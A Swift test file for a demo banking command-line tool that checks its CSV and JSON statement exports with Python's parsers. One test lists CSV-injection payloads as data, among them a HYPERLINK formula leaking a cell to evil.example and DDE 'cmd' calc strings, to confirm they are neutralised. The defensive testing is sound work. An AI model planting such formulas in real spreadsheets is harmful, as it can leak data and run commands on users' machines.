import Foundation
import TermBankCore
import TermBankStorage
import XCTest
@testable import TermBankCLI

/// `termbank statement NAME --format csv|json`: every posting, oldest first,
/// as a spreadsheet or a program reads it, checked with Python's own parsers.
final class StatementExportTests: XCTestCase {
    /// A demo bank where alice has deposits, moves and a reversal over three days.
    func aliceWithHistory() throws -> Scratch {
        let scratch = Scratch()
        XCTAssertEqual(try Termbank.run(["demo", "reset"], database: scratch.database).status, 0)
        let store = try SQLiteBankStore(path: scratch.database)
        let alice = try XCTUnwrap(store.user(named: Username(trusted: "alice")))
        let start = try XCTUnwrap(store.statement(of: alice.id, limit: 1).first).bookedAt
        var requests: [(request: TransferRequest, at: Timestamp)] = []
        for n in 0..<30 {
            let moveToSavings = n % 3 == 0
            let request = TransferRequest(
                clientID: TransferClientID(trusted: "export-\(n)"), kind: moveToSavings ? .transfer : .deposit,
                from: moveToSavings ? .customer(alice.id, .checking) : .bankFunding,
                to: moveToSavings ? .customer(alice.id, .savings) : .customer(alice.id, .checking),
                amount: Money(minorUnits: Int64(1_000 + n * 7)))
            requests.append((request, start.adding(seconds: Int64(n) * 7_200)))
        }
        _ = try store.book(all: requests, context: .operatorCLI)
        return scratch
    }

    func python(_ script: String, input: String) throws -> String {
        let folder = try ScratchFolder.make("termbank-export")
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let file = folder + "/export"
        try Data(input.utf8).write(to: URL(fileURLWithPath: file))
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script, file]
        let out = Pipe()
        let err = Pipe()
        process.standardOutput = out
        process.standardError = err
        try process.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        let problem = err.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        XCTAssertEqual(process.terminationStatus, 0, String(decoding: problem, as: UTF8.self))
        return String(decoding: data, as: UTF8.self)
    }

    func testTheCSVExportRoundTripsThroughPythonsCSVModuleWithRunningBalances() throws {
        let scratch = try aliceWithHistory()
        let run = try Termbank.run(["statement", "alice", "--format", "csv"], database: scratch.database)
        XCTAssertEqual(run.status, 0, run.stderr)
        XCTAssertTrue(run.stdout.utf8.starts(with: "date,transfer,account,description,amount,balance,counterparty,reference\r\n".utf8))
        XCTAssertFalse(run.stdout.replacingOccurrences(of: "\r\n", with: "").contains("\n"), "every record ends in CRLF")
        // Python reads it back; its rows printed as JSON come back here.
        let parsed = try python("""
            import csv, json, sys
            with open(sys.argv[1], newline='') as f:
                print(json.dumps(list(csv.reader(f, strict=True))))
            """, input: run.stdout)
        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(parsed.utf8)) as? [[String]])
        XCTAssertEqual(rows.first, StatementExport.columns)
        let store = try SQLiteBankStore(path: scratch.database)
        let alice = try XCTUnwrap(store.user(named: Username(trusted: "alice")))
        let lines = Array(try store.statement(of: alice.id, limit: 1_000).reversed())
        XCTAssertEqual(rows.count - 1, lines.count)
        XCTAssertEqual(lines.count, 2 + 20 + 2 * 10, "openings, deposits, two postings per move")
        for (row, line) in zip(rows.dropFirst(), lines) {
            XCTAssertEqual(row, [line.bookedAt.description, line.reference.description, line.account.rawValue, line.label,
                                 StatementExport.plainDecimal(line.amount, signed: true),
                                 StatementExport.plainDecimal(line.balanceAfter, signed: false),
                                 line.counterparty == .bankFunding ? "bank" : line.account.other.rawValue, ""])
        }
        // The running balance of each account, recomputed from the amounts, is the balance column.
        var running: [String: Int64] = [:]
        for row in rows.dropFirst() {
            let cents = Int64(row[4].replacingOccurrences(of: ".", with: ""))!
            running[row[2], default: 0] += cents
            XCTAssertEqual(String(running[row[2]]!), row[5].replacingOccurrences(of: ".", with: ""))
            XCTAssertTrue(row[4].hasPrefix("+") || row[4].hasPrefix("-"), "amounts carry a sign: \(row[4])")
            XCTAssertNotNil(ISO8601DateFormatter().date(from: row[0]), "ISO 8601: \(row[0])")
        }
    }

    func testTheJSONExportIsValidForPythonAndExactToTheCent() throws {
        let scratch = try aliceWithHistory()
        let run = try Termbank.run(["statement", "alice", "--format", "json", "--account", "savings"],
                                   database: scratch.database)
        XCTAssertEqual(run.status, 0, run.stderr)
        let summary = try python("""
            import json, sys
            rows = json.loads(open(sys.argv[1], encoding='utf-8').read())
            assert all(r['account'] == 'savings' for r in rows)
            assert all(int(r['amount'].replace('.', '')) == r['amount_minor'] for r in rows)
            print(len(rows), sum(r['amount_minor'] for r in rows), rows[-1]['balance_minor'], rows[0]['description'])
            """, input: run.stdout)
        let balance = try SQLiteBankStore(path: scratch.database).balances(of: UserID(1))[.savings]!.minorUnits
        XCTAssertEqual(summary, "11 \(balance) \(balance) Opening balance\n", "the savings postings add up to its balance")
        XCTAssertEqual(try Termbank.run(["statement", "bob", "--format", "json", "--from", "2001-01-01", "--to", "2001-12-31"],
                                        database: scratch.database).stdout, "[\n]\n", "no postings: an empty array")
    }

    func testDatesBoundTheExportBothDaysIncluded() throws {
        let scratch = try aliceWithHistory()
        let store = try SQLiteBankStore(path: scratch.database)
        let lines = try store.statement(of: UserID(1), limit: 1_000)
        let second = CalendarDay.startOfDay(lines.last!.bookedAt).adding(milliseconds: BalanceHistory.millisecondsPerDay)
        let day = CalendarDay.format(second)
        let run = try Termbank.run(["statement", "alice", "--format", "csv", "--from", day, "--to", day],
                                   database: scratch.database)
        XCTAssertEqual(run.status, 0, run.stderr)
        let records = run.stdout.split(separator: "\r\n").dropFirst()
        let expected = lines.filter { CalendarDay.format($0.bookedAt) == day }
        XCTAssertFalse(expected.isEmpty)
        XCTAssertEqual(records.count, expected.count)
        XCTAssertTrue(records.allSatisfy { $0.hasPrefix(day + "T") })
    }

    /// OWASP CSV injection: text a spreadsheet would run as a formula is
    /// neutralised with a leading apostrophe, and still reads back whole.
    func testSpreadsheetFormulasInTextFieldsAreNeutralised() throws {
        let attacks = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3",
                       "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "plain, with a comma", "say \"hi\"", "\u{1B}[2Jwipe"]
        let encoded = attacks.map(StatementExport.csvText)
        XCTAssertEqual(encoded[0], "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"")
        XCTAssertEqual(encoded[2], "\"'-2+3\"")
        XCTAssertEqual(encoded[6], "\"plain, with a comma\"")
        XCTAssertEqual(encoded[7], "\"say \"\"hi\"\"\"")
        XCTAssertEqual(StatementExport.csvText("Deposit"), "Deposit", "ordinary text stays as it is")
        let parsed = try python("""
            import csv, json, sys
            with open(sys.argv[1], newline='') as f:
                print(json.dumps(next(csv.reader(f, strict=True))))
            """, input: encoded.joined(separator: ",") + "\r\n")
        let fields = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(parsed.utf8)) as? [String])
        XCTAssertEqual(fields.count, attacks.count)
        for (field, attack) in zip(fields.prefix(6), attacks) {
            XCTAssertEqual(field, "'" + attack, "a formula reads back as text")
        }
        XCTAssertEqual(fields[6], attacks[6])
        XCTAssertEqual(fields[7], attacks[7])
        XCTAssertEqual(fields[8], "\u{FFFD}[2Jwipe", "no escape sequence reaches the operator's terminal")
        for field in fields { XCTAssertFalse(["=", "+", "-", "@", "\t", "\r"].contains(field.first.map(String.init) ?? "")) }
    }

    /// Found by fuzzing (scripts/fuzz export): a comma or a quote followed by a
    /// combining mark is one Swift character but still a comma or a quote in
    /// the file, so a field holding one is quoted (and its quote doubled), and
    /// Python's reader sees the fields that were written.
    func testACommaOrQuoteCarryingACombiningMarkIsStillQuoted() throws {
        let fields = ["nall,\u{300}rest", "say \"\u{301}hi", "plain"]
        let encoded = fields.map(StatementExport.csvText)
        XCTAssertEqual(encoded[0], "\"nall,\u{300}rest\"")
        XCTAssertEqual(encoded[1], "\"say \"\"\u{301}hi\"")
        let parsed = try python("""
            import csv, json, sys
            with open(sys.argv[1], newline='', encoding='utf-8') as f:
                print(json.dumps(next(csv.reader(f, strict=True))))
            """, input: encoded.joined(separator: ",") + "\r\n")
        let read = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(parsed.utf8)) as? [String])
        XCTAssertEqual(read.map { Array($0.unicodeScalars) }, fields.map { Array($0.unicodeScalars) })
    }

    /// The attack end to end: bob pays alice with a formula as his reference;
    /// alice's export hands it to a spreadsheet as text, and names bob.
    func testAFormulaInAPaymentsReferenceReachesTheSpreadsheetAsText() throws {
        let scratch = Scratch()
        XCTAssertEqual(try Termbank.run(["demo", "reset"], database: scratch.database).status, 0)
        let store = try SQLiteBankStore(path: scratch.database)
        let alice = try XCTUnwrap(store.user(named: Username(trusted: "alice")))
        let bob = try XCTUnwrap(store.user(named: Username(trusted: "bob")))
        let formula = "=HYPERLINK(\"http://x.io\",\"Pay\")"
        let reference = try XCTUnwrap(try PaymentReference.parse(formula))
        _ = try store.book(TransferRequest(clientID: TransferClientID(trusted: "export-payment-1"), kind: .payment,
                                           from: .customer(bob.id, .checking), to: .customer(alice.id, .checking),
                                           amount: Money(minorUnits: 2_500), paymentReference: reference),
                           at: try XCTUnwrap(store.statement(of: alice.id, limit: 1).first).bookedAt.adding(seconds: 60),
                           context: .operatorCLI)
        let run = try Termbank.run(["statement", "alice", "--format", "csv", "--account", "checking"], database: scratch.database)
        XCTAssertEqual(run.status, 0, run.stderr)
        let parsed = try python("""
            import csv, json, sys
            with open(sys.argv[1], newline='') as f:
                print(json.dumps(list(csv.DictReader(f, strict=True))))
            """, input: run.stdout)
        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(parsed.utf8)) as? [[String: String]])
        let payment = try XCTUnwrap(rows.last)
        XCTAssertEqual(payment["reference"], "'" + formula, "the formula is text, whole")
        XCTAssertEqual(payment["counterparty"], "bob")
        XCTAssertEqual(payment["amount"], "+25.00")
        XCTAssertEqual(payment["description"], "Payment from bob")
        let json = try Termbank.run(["statement", "alice", "--format", "json"], database: scratch.database)
        XCTAssertTrue(json.stdout.contains("\"reference\":\"=HYPERLINK(\\\"http://x.io\\\",\\\"Pay\\\")\""),
                      "JSON keeps it as it is (no spreadsheet reads JSON): \(json.stdout)")
    }

    func testBadDatesUnknownCustomersAndFormatsAreOneLineErrorsWithSysexitsCodes() throws {
        let scratch = try aliceWithHistory()
        let cases: [([String], Int32, String)] = [
            (["statement", "alice", "--format", "csv", "--from", "2026-02-30"], 65,
             "termbank: --from must be a date like 2026-11-30, not \"2026-02-30\".\n"),
            (["statement", "alice", "--format", "json", "--to", "yesterday"], 65,
             "termbank: --to must be a date like 2026-11-30, not \"yesterday\".\n"),
            (["statement", "alice", "--format", "csv", "--from", "2026-12-01", "--to", "2026-11-30"], 65,
             "termbank: --to is before --from: no day is both.\n"),
            (["statement", "mallory", "--format", "csv"], 67, "termbank: No user named \"mallory\".\n"),
            (["statement", "alice", "--format", "xlsx"], 64, "termbank: --format is csv or json, not \"xlsx\"\n"),
            (["statement", "alice", "--format", "csv", "--account", "brokerage"], 64,
             "termbank: --account is checking or savings, not \"brokerage\"\n"),
        ]
        for (arguments, status, message) in cases {
            let run = try Termbank.run(arguments, database: scratch.database)
            XCTAssertEqual(run.status, status, arguments.joined(separator: " "))
            XCTAssertEqual(run.stdout, "", "nothing half-written: \(arguments)")
            XCTAssertTrue(run.stderr.hasPrefix(message), "\(arguments): \(run.stderr)")
        }
    }
}
